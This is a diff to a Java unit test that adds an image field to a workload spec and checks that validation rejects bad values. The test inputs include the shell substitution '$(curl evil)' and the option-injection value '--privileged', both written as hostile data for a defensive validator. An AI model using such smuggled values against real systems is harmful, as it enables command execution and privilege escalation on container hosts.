@@ -66,7 +66,7 @@ class WireFormatTest {
     void a_job_needs_a_duration_and_a_deadline_that_leaves_room_for_it() {
         WorkloadSpec job = new WorkloadSpec("nightly-etl", "acme", "batch", new ResourceRequest("2", "4Gi", null, null, null),
                 1, null, null, null, null, null, null, null, null, null, Duration.ofHours(3),
-                Instant.parse("2026-11-22T20:00:00Z"), Instant.parse("2026-11-22T22:00:00Z"), null);
+                Instant.parse("2026-11-22T20:00:00Z"), Instant.parse("2026-11-22T22:00:00Z"), null, null);
 
         assertThat(job.validate()).extracting(FieldError::field).containsExactly("deadline");
     }
@@ -75,9 +75,26 @@ class WireFormatTest {
     void a_service_rejects_job_fields_bad_quantities_and_an_slo_without_users() {
         WorkloadSpec service = new WorkloadSpec("web", null, "service", new ResourceRequest("two", "1Gi", null, null, null),
                 0, null, null, new SandboxSpec("micro-vm", "wasm", false), null, null, 20, null, null, List.of("web"),
-                Duration.ofHours(1), null, null, null);
+                Duration.ofHours(1), null, null, null, "$(curl evil)");
 
         assertThat(service.validate()).extracting(FieldError::field).containsExactlyInAnyOrder(
-                "requests.cpu", "replicas", "sandbox.runtime", "userLocation", "colocateWith", "duration");
+                "requests.cpu", "replicas", "sandbox.runtime", "userLocation", "colocateWith", "duration", "image");
+    }
+
+    @Test
+    void a_workload_image_is_checked_as_a_run_command_checks_it_and_reads_from_json() throws Exception {
+        WorkloadSpec spec = JSON.readValue("""
+                {"id": "ingest", "requests": {"cpu": "500m"}, "image": "ghcr.io/acme/ingest:1.2"}
+                """, WorkloadSpec.class);
+        WorkloadSpec option = JSON.readValue("""
+                {"id": "ingest", "requests": {"cpu": "500m"}, "image": "--privileged"}
+                """, WorkloadSpec.class);
+
+        assertThat(spec.image()).isEqualTo("ghcr.io/acme/ingest:1.2");
+        assertThat(spec.validate()).isEmpty();
+        assertThat(option.validate()).singleElement().satisfies(error -> {
+            assertThat(error.field()).isEqualTo("image");
+            assertThat(error.message()).contains("not starting with '-'").contains("--privileged");
+        });
     }
 }
